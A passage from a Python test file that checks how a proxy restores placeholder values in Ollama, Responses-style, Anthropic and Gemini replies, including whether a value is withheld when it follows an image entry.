    said = json.dumps({"message": {"content": MARK}, "done": True}, indent=1)
    for text in (said, f"\n{said}\n"):
        assert json.loads(passed("ollama", text))["message"]["content"] == MAIL
    assert passed("ollama", said[:-9]) == said[:-9]


def whole(wire: str, document: Any, path: str = "") -> str:
    """What a reader of a whole reply gets."""
    codec = codec_of(wire) if not path else finder(wire, wire, frozenset(), "refuse")("POST", path)
    joined, arriving = Joined(), Arriving(None, structured=False)

    def opened(channel: Channel) -> Restorer:
        behind = joined.before(channel) or channel.after
        assert behind is None or isinstance(behind, Restorer)
        made = Restorer(KNOWN, kinds=frozenset(), behind=behind, arrivals=arriving.of(channel))
        joined.add(channel, made)
        return made

    assert codec is not None
    reply = codec.reply("application/json", opened)
    return (reply.feed(json.dumps(document).encode()) + reply.close()).decode()


@pytest.mark.parametrize("key", ["summary", "content"])
def test_a_link_went_on_in_the_next_thought_of_a_whole_response(key: str) -> None:
    def thoughts(*texts: str) -> Any:
        return [{"type": "reasoning", "id": "rs_1", key: [{"type": "summary_text", "text": text} for text in texts]}]

    assert whole("responses", {"object": "response", "output": thoughts("so ", MARK, " ", MARK)}).count(MAIL) == 2
    for items in (thoughts(IMAGE, MARK), [*thoughts(IMAGE), *thoughts(MARK)]):
        assert MAIL not in whole("responses", {"object": "response", "output": items})
    again = whole("responses", {"object": "response", "output": thoughts(MARK, IMAGE, MARK)})
    assert again.count(MAIL) == 1 and again.index(MAIL) < again.index(IMAGE)


def test_a_link_went_on_in_the_next_text_of_a_result_of_anthropic() -> None:
    def result(*texts: str) -> dict[str, Any]:
        said = [{"type": "text", "text": text} for text in texts]
        return {"type": "mcp_tool_result", "tool_use_id": "mcptoolu_1", "content": said}

    assert MAIL in whole("anthropic", {"type": "message", "content": [result("so ", MARK)]})
    assert MAIL not in whole("anthropic", {"type": "message", "content": [result(IMAGE, MARK)]})
    start = {"type": "content_block_start", "index": 0, "content_block": result(IMAGE, MARK)}
    assert MAIL not in passed("anthropic", f"data: {json.dumps(start)}\n\n")


def test_a_link_went_on_in_the_next_piece_of_a_transcript_of_gemini() -> None:
    def spoken(*texts: str) -> dict[str, Any]:
        parts = [{"audioTranscription": {"text": text}} for text in texts]
        return {"candidates": [{"content": {"role": "model", "parts": parts}, "finishReason": "STOP"}]}

    path = "/v1beta/models/m:generateContent"
    assert MAIL in whole("gemini", spoken("so ", MARK), path)
    assert MAIL not in whole("gemini", spoken(IMAGE, MARK), path)
    pieces = "".join(f"data: {json.dumps(spoken(text))}\n\n" for text in (IMAGE, MARK))
    assert MAIL not in passed("gemini", pieces)
